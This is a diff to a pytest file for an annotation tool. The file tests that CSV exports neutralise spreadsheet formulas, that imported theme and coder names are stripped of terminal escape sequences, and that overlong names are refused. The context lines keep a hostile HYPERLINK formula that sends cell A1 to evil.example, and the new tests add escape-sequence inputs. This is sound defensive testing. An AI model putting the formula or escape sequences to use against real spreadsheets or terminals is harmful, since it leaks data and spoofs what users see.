@@ -5,13 +5,14 @@ from __future__ import annotations
 
 import csv
 import io
+import json
 from pathlib import Path
 
 import pytest
 
 from gui.analysis.overview import gather, table
 from gui.export import export, import_annotations
-from gui.store import Store
+from gui.store import Store, StoreError
 from tests.reliability.conftest import DOC
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
@@ -47,3 +48,35 @@ def test_no_export_starts_a_cell_with_a_formula(hostile: Store, tmp_path: Path, 
     written = cells(out.read_bytes())
     assert any(FORMULA in c for c in written)
     assert not [c for c in written if c[:1] in ("=", "+", "-", "@")]
+
+
+def test_control_characters_in_a_colleagues_theme_names_never_reach_the_terminal(store: Store,
+                                                                               tmp_path: Path) -> None:
+    book = tmp_path / "controls.csv"
+    book.write_bytes(b"tag\nA\x00B\n\x1b[2J\x1b]0;owned\x07Evil\n")
+    import_annotations(store, book)
+    names = [t.name for t in store.themes()]
+    assert "A B" in names and "[2J ]0;owned Evil" in names
+    assert not [n for n in names if any(ord(c) < 32 or 0x7F <= ord(c) < 0xA0 for c in n)]
+    colleague = tmp_path / "colleague.jsonld"  # a colleague's coder name, merged, is one clean line too
+    colleague.write_text(json.dumps({"type": "Annotation", "creator": {"name": "\x1b[31mkim\x1b[0m"},
+                                     "body": [{"type": "TextualBody", "value": "POC", "purpose": "tagging"}],
+                                     "target": {"source": f"urn:marginalia:document:{DOC}", "selector": [
+                                         {"type": "TextQuoteSelector",
+                                          "exact": "The Working Group discussed the following themes:"}]}}),
+                         encoding="utf-8")
+    assert len(import_annotations(store, colleague).merged) == 1
+    assert {a.coder for a in store.annotations()} == {"[31mkim [0m"}
+
+
+def test_a_theme_name_of_100000_characters_is_refused_in_one_line(store: Store, tmp_path: Path) -> None:
+    book = tmp_path / "long.csv"
+    book.write_text("tag\nShort\n" + "y" * 100_000 + "\n", encoding="utf-8")
+    before = len(store.themes())
+    with pytest.raises(StoreError, match="up to 300 characters") as error:
+        import_annotations(store, book)
+    assert len(str(error.value)) < 200 and len(store.themes()) == before
+    with pytest.raises(StoreError, match="up to 300 characters"):
+        store.add_theme("z" * 301)
+    with pytest.raises(StoreError, match="up to 300 characters"):
+        store.update_theme("poc", name="z" * 301)
